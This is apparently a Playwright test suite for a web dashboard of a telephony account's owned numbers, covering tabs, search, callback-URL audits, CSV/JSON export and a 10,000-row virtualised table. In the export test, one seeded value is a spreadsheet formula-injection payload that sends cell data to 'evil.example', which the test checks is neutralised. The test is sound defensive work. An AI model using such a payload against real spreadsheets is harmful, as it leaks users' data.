import { expect, simUrl, test } from './fixtures'
import { downloadText, indexNumber, NUMBERS, parseCsv, rowTexts } from './helpers'
import { startProxy, startSimulator } from './stack'
import { LARGE_CREDENTIALS } from '../proxy/simulator/dataset'

const table = (name: RegExp | string) => ({ name })

test.describe('owned numbers', () => {
  test('each tab sends its own request and only All has a country column', async ({ page, sim }) => {
    await page.goto('/')
    await expect(page.getByRole('tab', { name: 'All' })).toHaveAttribute('aria-selected', 'true')
    await expect(page.getByRole('columnheader', { name: /Country/ })).toBeVisible()
    await expect(page.getByRole('status').filter({ hasText: /^60 numbers$/ })).toBeVisible()

    await sim.clearRequests()
    await page.getByRole('tab', { name: 'Local' }).click()
    await expect(page.getByRole('table', table(/Owned numbers, local/))).toBeVisible()
    await expect(page.getByRole('columnheader', { name: /Country/ })).toHaveCount(0)
    // The table (its skeleton) shows before the request lands: wait for the log rather than read it once.
    const sent = async () => (await sim.requests()).requests.map((r) => [r.path, r.fields.number_type?.[0]])
    await expect.poll(sent).toEqual([['/api/ownednumbers', 'local']])
    // The answer is drawn a moment after the simulator logs the request: poll the rows too.
    const types = async (name: RegExp) => new Set(await rowTexts(page, name, 1))
    await expect.poll(() => types(/Owned numbers, local/)).toEqual(new Set(['Local']))

    await sim.clearRequests()
    await page.getByRole('tab', { name: 'Toll-free' }).click()
    await expect(page.getByRole('table', table(/Owned numbers, toll-free/))).toBeVisible()
    await expect.poll(sent).toEqual([['/api/ownednumbers', 'tollfree']])
    await expect.poll(() => types(/toll-free/)).toEqual(new Set(['Toll-free']))
    await expect(page.getByRole('columnheader', { name: /Country/ })).toHaveCount(0)
    await expect(page.getByRole('table', table(/toll-free/))).not.toContainText('undefined')
  })

  test('on a 1280 px window every column of All is in view, none behind a sideways scroll', async ({ page }) => {
    await page.setViewportSize({ width: 1280, height: 800 })
    await page.goto('/')
    await expect(page.getByRole('columnheader', { name: /Last activity/ })).toBeAttached()
    const region = page.getByRole('region', { name: /Owned numbers, all, scrollable/ })
    await expect(region.locator('tbody tr[aria-rowindex]').first()).toBeVisible()
    const [scroll, client] = await region.evaluate((el) => [el.scrollWidth, el.clientWidth])
    expect(scroll, 'the table scrolls sideways').toBeLessThanOrEqual(client)
    await expect(page.getByRole('columnheader', { name: /Last activity/ })).toBeInViewport()
  })

  test('search by partial digits finds the formatted number', async ({ page }) => {
    await page.goto('/')
    await page.getByRole('searchbox', { name: /Search/ }).fill('2323')
    await expect(page.getByRole('status').filter({ hasText: /^1 number of 60$/ })).toBeVisible()
    await expect(page.getByRole('link', { name: '(832) 323-2323', exact: true })).toBeVisible()
    await page.getByRole('searchbox', { name: /Search/ }).fill('(832) 323')
    await expect(page.getByRole('link', { name: '(832) 323-2323', exact: true })).toBeVisible()
    await page.getByRole('searchbox', { name: /Search/ }).fill('zzzz-nothing')
    await expect(page.getByText('No numbers match')).toBeVisible()
  })

  test('an indexed number shows how many messages the index holds and its last activity', async ({ page }) => {
    const held = await indexNumber(NUMBERS.dozens)
    expect(held).toBe(36)
    await page.goto('/')
    const row = page.getByRole('row', { name: /\(855\) 200-9444/ })
    await expect(row.locator('[data-col="messages"]')).toHaveText('36')
    await expect(row.locator('[data-col="activity"]')).toHaveText(/^\d{4}-\d{2}-\d{2}$/)
  })

  test("a phone that is not one of the account's numbers offers that party's messages", async ({ page }) => {
    await page.goto('/')
    const box = page.getByRole('searchbox', { name: /Search numbers/ })
    // One of the account's own numbers: no offer.
    await box.fill('(832) 323-2323')
    await expect(page.getByRole('link', { name: '(832) 323-2323', exact: true })).toBeVisible()
    await expect(page.getByRole('link', { name: /^Find messages with/ })).toHaveCount(0)
    await box.fill('(917) 555-0142')
    await page.getByRole('link', { name: 'Find messages with (917) 555-0142' }).click()
    await expect(page).toHaveURL(/\/search\?party=9175550142$/)
    await expect(page.getByRole('searchbox', { name: 'Other party' })).toHaveValue('9175550142')
  })

  test('every audit label appears on the number seeded with that defect', async ({ page }) => {
    await page.goto('/')
    const auditOf = async (digits: string) => {
      await page.getByRole('searchbox', { name: /Search/ }).fill(digits)
      const row = page
        .getByRole('table', table(/Owned numbers/))
        .locator('tbody tr[aria-rowindex]')
        .first()
      await expect(row).toContainText(digits)
      // The audit lands a frame after the rows (deferred render): wait for it, then read.
      const cell = row.locator('[data-col="audit"]')
      await expect(cell).not.toHaveText('Checking…')
      return (await cell.textContent()) ?? ''
    }
    // Each finding carries its severity in words: a problem, or worth a look.
    expect(await auditOf('18323232323')).toBe('No findings')
    expect(await auditOf('14158074499')).toContain('Problem: webhook: Missing')
    expect(await auditOf('15147901725')).toContain('Problem: dlr: Missing')
    expect(await auditOf('18552009444')).toContain('Problem: webhook: Not HTTPS')
    expect(await auditOf('17202951888')).toContain('Problem: dlr: Private host')
    expect(await auditOf('8329632623')).toContain('Problem: webhook: Invalid URL')
    expect(await auditOf('13053851232')).toContain('Worth a look: dlr: Same as webhook')
    expect(await auditOf('18004840451')).toContain('Worth a look: webhook: Outlier')
    // Another company's domain is a finding of its own; the cloud metadata address one too.
    expect(await auditOf('18004840451')).toContain('Problem: webhook: Another domain')
  })

  test('a number the listing carries twice, under two tids, is a finding on both rows that names both tids', async ({ page }) => {
    const res = await fetch(`${simUrl()}/__sim/quirks`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ listedTwice: [NUMBERS.big.number] }),
    })
    expect(res.ok).toBe(true)
    await page.setViewportSize({ width: 1400, height: 900 })
    await page.goto(`/?q=${NUMBERS.big.number}`)
    const rows = page.getByRole('table', table(/Owned numbers/)).locator('tbody tr[aria-rowindex]')
    await expect(rows).toHaveCount(2)
    const tids = await rows.locator('[data-col="tid"]').allTextContents()
    expect(tids).toContain(NUMBERS.big.tid)
    const [a, b] = tids as [string, string]
    for (const cell of await rows.locator('[data-col="audit"]').all()) {
      await expect(cell).toHaveText(`Worth a look: number: Listed twice, with tids ${a} and ${b}`)
      await expect(cell).not.toHaveText(/No findings/)
    }
    await page.screenshot({ path: '/tmp/numbers-listed-twice-1400.png' })
    // Both chips pressed at once, on a phone: cards carry the same finding.
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto(`/?severity=problem,look`)
    await expect(page.getByRole('button', { name: /^Worth a look · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
    await expect(page.getByRole('button', { name: /^Any problem · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
    await page.screenshot({ path: '/tmp/numbers-multi-390.png' })
  })

  test('the audit summary counts findings, lists endpoints, and filters by finding', async ({ page }) => {
    await page.goto('/')
    const summary = page.getByRole('region', { name: 'Callback audit' })
    // Per-finding counts and endpoints sit in a disclosure, so their arrival moves nothing.
    await summary.getByText('Findings by kind, and endpoints').click()
    const dlrMissing = summary.getByRole('button', { name: /Problem: dlr: Missing — 5 numbers send delivery reports nowhere/ })
    await expect(dlrMissing).toBeVisible()
    await expect(summary).toContainText('distinct webhook endpoints')
    await dlrMissing.click()
    await expect(dlrMissing).toHaveAttribute('aria-pressed', 'true')
    await expect(page).toHaveURL(/audit=dlr\.missing/)
    await expect(page.getByRole('status').filter({ hasText: /^5 numbers of 60$/ })).toBeVisible()
    const audits = await rowTexts(page, /Owned numbers/, 6)
    expect(audits).toHaveLength(5)
    for (const a of audits) expect(a).toContain('dlr: Missing')
  })

  test('Any problem, Worth a look and No findings filter whole classes of numbers, several at once, by keyboard', async ({ page }) => {
    await page.goto('/')
    const summary = page.getByRole('region', { name: 'Callback audit' })
    const status = summary.getByRole('status')
    await expect(status).toHaveText(/^Checked 60 numbers; \d+ (is|are) counted twice \(a problem and worth a look\)\.$/)
    const problem = summary.getByRole('button', { name: /^Any problem · \d+$/ })
    const clean = summary.getByRole('button', { name: /^No findings · \d+$/ })
    const look = summary.getByRole('button', { name: /^Worth a look · \d+$/ })
    const countOf = async (chip: typeof problem) => Number((await chip.textContent())!.replace(/\D/g, ''))
    const total = await countOf(problem)
    const cleanTotal = await countOf(clean)
    // The three chips add up to the 60 numbers once those counted twice are taken off.
    const twice = Number(/; (\d+)/.exec((await status.textContent())!)![1])
    expect(total + (await countOf(look)) + cleanTotal - twice).toBe(60)
    expect(total).toBeGreaterThan(0)
    await problem.click()
    await expect(problem).toHaveAttribute('aria-pressed', 'true')
    await expect(page).toHaveURL(/severity=problem(&|$)/)
    await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total} numbers? of 60$`) })).toBeVisible()
    for (const a of await rowTexts(page, /Owned numbers/, 6)) expect(a).toContain('Problem:')

    // A second chip, pressed from the keyboard, adds its numbers: both stay pressed.
    await clean.focus()
    await page.keyboard.press('Space')
    await expect(clean).toHaveAttribute('aria-pressed', 'true')
    await expect(problem).toHaveAttribute('aria-pressed', 'true')
    await expect(page).toHaveURL(/severity=problem,none(&|$)/)
    await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total + cleanTotal} numbers of 60$`) })).toBeVisible()
    for (const a of await rowTexts(page, /Owned numbers/, 6)) expect(a === 'No findings' || a.includes('Problem:')).toBe(true)
    // The shared link holds both.
    await page.reload()
    await expect(summary.getByRole('button', { name: /^No findings · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
    await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total + cleanTotal} numbers of 60$`) })).toBeVisible()

    // Releasing one leaves the other.
    await problem.click()
    await expect(problem).toHaveAttribute('aria-pressed', 'false')
    await expect(page).toHaveURL(/severity=none/)
    const cleanTexts = await rowTexts(page, /Owned numbers/, 6)
    expect(cleanTexts.length).toBeGreaterThan(0)
    for (const a of cleanTexts) expect(a).toBe('No findings')
    await clean.click()

    await look.click()
    await expect(page).toHaveURL(/severity=look/)
    for (const a of await rowTexts(page, /Owned numbers/, 6)) expect(a).toContain('Worth a look:')
    await summary.getByRole('button', { name: 'Clear audit filter' }).click()
    await expect(page.getByRole('status').filter({ hasText: /^60 numbers$/ })).toBeVisible()
    await expect(page).not.toHaveURL(/severity=/)
    // A link from before the chips were multi-select still works.
    await page.goto('/?audit=problem')
    await expect(summary.getByRole('button', { name: /^Any problem · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
    await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total} numbers? of 60$`) })).toBeVisible()
  })

  for (const width of [1280, 390])
    test(`nothing moves when the rows and the audit arrive (layout shift) at ${width} px`, async ({ page, sim }) => {
      await page.setViewportSize({ width, height: 844 })
      await sim.fault({ op: 'allownednumbers', kind: 'latency', ms: 800, times: 1 })
      await page.addInitScript(() => {
        const w = window as unknown as { shifts: number[] }
        w.shifts = []
        new PerformanceObserver((list) => {
          for (const e of list.getEntries() as Array<PerformanceEntry & { value: number; hadRecentInput: boolean }>)
            if (!e.hadRecentInput) w.shifts.push(e.value)
        }).observe({ type: 'layout-shift', buffered: true })
      })
      await page.goto('/')
      await expect(page.getByRole('region', { name: 'Callback audit' }).getByRole('status')).toHaveText(
        /^Checked 60 numbers; \d+ (is|are) counted twice/,
      )
      await expect(
        (width < 640 ? page.locator('article [data-col="audit"]') : page.locator('tbody tr[aria-rowindex] [data-col="audit"]')).first(),
      ).not.toHaveText('Checking…')
      // Let any late shift be reported (the observer runs after the frame that shifted).
      await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))))
      const cls = await page.evaluate(() => (window as unknown as { shifts: number[] }).shifts.reduce((a, b) => a + b, 0))
      // About 0.00007 here; the saved views' row arriving late under the header once made it 0.02,
      // and on a phone the audit's line moving under its heading when it landed 0.055.
      expect(cls).toBeLessThanOrEqual(0.01)
    })

  test('Export CSV holds exactly the rows and columns on screen, formula cells neutralised', async ({ page }) => {
    await page.goto('/?audit=webhook.invalid_url')
    await expect(page.getByRole('status').filter({ hasText: /^2 numbers of 60$/ })).toBeVisible()
    // Sort by number, descending; hide tid.
    const header = page.getByRole('columnheader', { name: /Number/ })
    await header.getByRole('button').click()
    await header.getByRole('button').click()
    await expect(header).toHaveAttribute('aria-sort', 'descending')
    await page.getByText('Columns', { exact: true }).click()
    // The columns shown are URL-bound (committed in a transition): clicked, then awaited.
    await page.getByRole('checkbox', { name: 'tid' }).click()
    await expect(page.getByRole('checkbox', { name: 'tid' })).not.toBeChecked()
    await expect(page.getByRole('columnheader', { name: /tid/ })).toHaveCount(0)

    const onScreen = await rowTexts(page, /Owned numbers/, 0, 'span')
    const { name, text } = await downloadText(page, () => page.getByRole('button', { name: 'Export CSV' }).click())
    expect(name).toMatch(/^switchboard-numbers-all-webhook-invalid-url-\d{4}-\d{2}-\d{2}\.csv$/)
    const rows = parseCsv(text)
    // The audit is one cell per kind of finding (docs/architecture.md, Tables), each headed by its kind.
    const kinds = [
      'webhook: Missing',
      'webhook: Invalid URL',
      'webhook: Not HTTPS',
      'webhook: Private host',
      'webhook: Cloud metadata address',
      'webhook: Another domain',
      'webhook: Outlier',
      'dlr: Missing',
      'dlr: Invalid URL',
      'dlr: Not HTTPS',
      'dlr: Private host',
      'dlr: Cloud metadata address',
      'dlr: Another domain',
      'dlr: Same as webhook',
      'dlr: Outlier',
      'number: Listed twice',
    ].map((k) => `Audit: ${k}`)
    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', ...kinds, 'Messages', 'Last activity (UTC)'])
    expect(rows.slice(1).map((r) => r[0])).toEqual(onScreen)
    for (const r of rows.slice(1)) expect(r[rows[0]!.indexOf('Audit: webhook: Invalid URL')]).toBe('Problem')
    const formula = rows.find((r) => r[3]?.includes('HYPERLINK'))
    expect(formula?.[3]).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Click")')
    expect(text.startsWith('\uFEFF')).toBe(true)

    const json = await downloadText(page, () => page.getByRole('button', { name: 'Export JSON' }).click())
    const parsed = JSON.parse(json.text) as Array<Record<string, string>>
    expect(parsed.map((r) => r.Number)).toEqual(onScreen)
    expect(Object.keys(parsed[0] ?? {})).not.toContain('tid')
  })

  test('tab, search, sort, audit filter and hidden columns survive reload and back/forward', async ({ page }) => {
    await page.goto('/')
    // Each step lands in the URL before the next, as a person sees each take effect.
    await page.getByRole('tab', { name: 'Local' }).click()
    await expect(page).toHaveURL(/tab=local/)
    await page.getByRole('searchbox', { name: /Search/ }).fill('hooks')
    await expect(page).toHaveURL(/q=hooks/)
    await page.getByRole('columnheader', { name: /Type/ }).getByRole('button').click()
    await expect(page).toHaveURL(/sort=type\.asc/)
    await page.getByText('Columns', { exact: true }).click()
    await page.getByRole('checkbox', { name: 'Webhook' }).click()
    await expect(page).toHaveURL(/hide=webhook/)
    await page.reload()
    await expect(page.getByRole('tab', { name: 'Local' })).toHaveAttribute('aria-selected', 'true')
    await expect(page.getByRole('searchbox', { name: /Search/ })).toHaveValue('hooks')
    await expect(page.getByRole('columnheader', { name: /Type/ })).toHaveAttribute('aria-sort', 'ascending')
    await expect(page.getByRole('columnheader', { name: /Webhook/ })).toHaveCount(0)
    await page.goBack()
    await expect(page.getByRole('columnheader', { name: /Webhook/ })).toBeVisible()
    await page.goForward()
    await expect(page.getByRole('columnheader', { name: /Webhook/ })).toHaveCount(0)
  })

  test('an error shows an alert with Retry, and a failed refresh keeps the rows', async ({ page, sim }) => {
    await sim.fault({ op: 'allownednumbers', kind: 'status', status: 500, times: 3 })
    await page.goto('/')
    // While it asks again (1.6 s of back-off), the page says so rather than "Loading numbers…".
    await expect(page.getByRole('status').filter({ hasText: /did not answer \((once|2 times)\); asking again/ })).toBeVisible()
    const alert = page.getByRole('alert')
    await expect(alert).toContainText('could not be reached', { timeout: 15_000 })
    await expect(alert).toContainText('HTTP 500')
    // Three upstream calls for one user action, no more.
    expect((await sim.requests()).calls).toBe(3)
    await alert.getByRole('button', { name: 'Retry' }).click()
    await expect(page.getByRole('link', { name: '(832) 323-2323', exact: true })).toBeVisible()
    await expect(page.getByRole('alert')).toHaveCount(0)

    await sim.fault({ op: 'allownednumbers', kind: 'malformed' })
    await page.getByRole('button', { name: 'Refresh' }).click()
    await expect(page.getByRole('alert')).toContainText('could not read')
    await expect(page.getByRole('alert')).toContainText('last successful load')
    await expect(page.getByRole('link', { name: '(832) 323-2323', exact: true })).toBeVisible()
  })

  test('an empty account says so', async ({ page, sim }) => {
    await sim.fault({ op: 'allownednumbers', kind: 'empty_data' })
    await page.goto('/')
    await expect(page.getByText('This account owns no numbers')).toBeVisible()
  })

  test('loading shows a skeleton, then the rows', async ({ page, sim }) => {
    // Every listing waits, for this test only (the fixture resets the simulator): with one slow
    // answer, the server's own background listing could take it, or a slow first page load could
    // outlast it, and the skeleton was never seen (a CI run).
    await sim.fault({ op: 'allownednumbers', kind: 'latency', ms: 2500 })
    await page.goto('/')
    await expect(page.getByRole('status', { name: 'Loading numbers' })).toBeVisible()
    await expect(page.getByRole('link', { name: '(832) 323-2323', exact: true })).toBeVisible()
    await expect(page.getByRole('status', { name: 'Loading numbers' })).toHaveCount(0)
  })

  test('a number links to its history route', async ({ page }) => {
    await page.goto('/')
    await page.getByRole('link', { name: '(832) 323-2323', exact: true }).click()
    await expect(page).toHaveURL(/\/numbers\/18323232323\?tid=PUHMGWS98301/)
    await expect(page.getByRole('heading', { name: 'History of (832) 323-2323' })).toBeVisible()
  })
})

test.describe('a 10,000-number account', () => {
  test('only the rows in view are in the page; scrolling and the keyboard reach the last one', async ({ page }) => {
    // Beside the suite's own ports (E2E_PORT + 30, + 31), so runs on other ports never collide.
    const proxyPort = Number(process.env.E2E_PORT ?? 4010) + 30
    const simPort = proxyPort + 1
    const sim = await startSimulator(simPort)
    const proxy = await startProxy(proxyPort, {
      API_BASE_URL: `http://127.0.0.1:${simPort}`,
      API_SYS_ID: LARGE_CREDENTIALS.sysId,
      API_AUTH_TOKEN: LARGE_CREDENTIALS.authToken,
      LOG_REQUESTS: '0',
    })
    try {
      // The first frame with rows must already fill the view (the overscan may come a frame later).
      // They are drawn from the listing's first records while the whole answer is still parsed:
      // the table is busy then, with no row count yet.
      await page.addInitScript(() => {
        const w = window as unknown as {
          firstRows?: { rows: number; lastBottom: number; viewBottom: number; busy: string | null; count: string | null; text: string }
        }
        new MutationObserver((_, observer) => {
          const rows = document.querySelectorAll('tbody tr[aria-rowindex]')
          const region = rows[0]?.closest('[role=region]')
          if (!region) return
          observer.disconnect()
          const table = rows[0]!.closest('table')!
          const [busy, count, text] = [table.getAttribute('aria-busy'), table.getAttribute('aria-rowcount'), rows[0]!.textContent ?? '']
          requestAnimationFrame(() => {
            w.firstRows = {
              busy,
              count,
              text,
              rows: rows.length,
              lastBottom: rows[rows.length - 1]!.getBoundingClientRect().bottom,
              viewBottom: region.getBoundingClientRect().bottom,
            }
          })
        }).observe(document, { childList: true, subtree: true })
      })
      await page.goto(`http://127.0.0.1:${proxyPort}/`)
      const table = page.getByRole('table', { name: /Owned numbers/ })
      await expect(table).toHaveAttribute('aria-rowcount', '10001')
      const rows = table.locator('tbody tr[aria-rowindex]')
      await expect(rows.first()).toHaveAttribute('aria-rowindex', '2')
      const first = await page
        .waitForFunction(() => (window as unknown as { firstRows?: unknown }).firstRows)
        .then(
          (h) =>
            h.jsonValue() as Promise<{
              rows: number
              lastBottom: number
              viewBottom: number
              busy: string | null
              count: string | null
              text: string
            }>,
        )
      expect(first.rows).toBeGreaterThan(5)
      expect([first.busy, first.count]).toEqual(['true', null])
      expect(first.text).toContain('(832) 323-2323')
      expect(first.lastBottom).toBeGreaterThanOrEqual(first.viewBottom)
      // …and the overscan rows join after that frame.
      await expect.poll(() => rows.count()).toBeGreaterThan(first.rows)
      expect(await rows.count()).toBeLessThan(40)
      // The spacers keep the full height: 10,000 rows of 58 px.
      const region = page.getByRole('region', { name: /Owned numbers.*scrollable/ })
      expect(await region.evaluate((el) => el.scrollHeight)).toBeGreaterThan(10_000 * 58)

      await region.evaluate((el) => el.scrollTo(0, 5000 * 58))
      await expect.poll(async () => Number(await rows.first().getAttribute('aria-rowindex'))).toBeGreaterThan(4900)
      const middle = Number(await rows.first().getAttribute('aria-rowindex'))
      expect(middle).toBeLessThan(5002)
      expect(await rows.count()).toBeLessThan(40)
      // Each rendered row is the row its index says: its number is the one at that position of the listing.
      const listing = (await (await page.request.post(`http://127.0.0.1:${proxyPort}/api/allownednumbers`, { form: {} })).json()) as {
        data: Array<{ number: string }>
      }
      await expect(rows.first().locator('td').first().locator('span.font-mono')).toHaveText(listing.data[middle - 2]!.number)

      await region.focus()
      await expect(region).toBeFocused()
      // One CI run of about ten (machine loaded) saw End leave the region where it was; the
      // region had focus before the press is now checked, and End is pressed again if the first
      // press did not move it (a person would press it again too). Idle, 4 of 4 moved at once.
      await expect(async () => {
        await page.keyboard.press('End')
        await expect(rows.last()).toHaveAttribute('aria-rowindex', '10001', { timeout: 3_000 })
      }).toPass({ timeout: 15_000 })
      await expect(rows.last().locator('td').first().locator('span.font-mono')).toHaveText(listing.data[9_999]!.number)
      expect(await rows.count()).toBeLessThan(40)
    } finally {
      // The page leaves first: its idle preloads would otherwise meet a server going away (a console error).
      await page.goto('about:blank')
      await proxy.stop()
      await sim.stop()
    }
  })
})
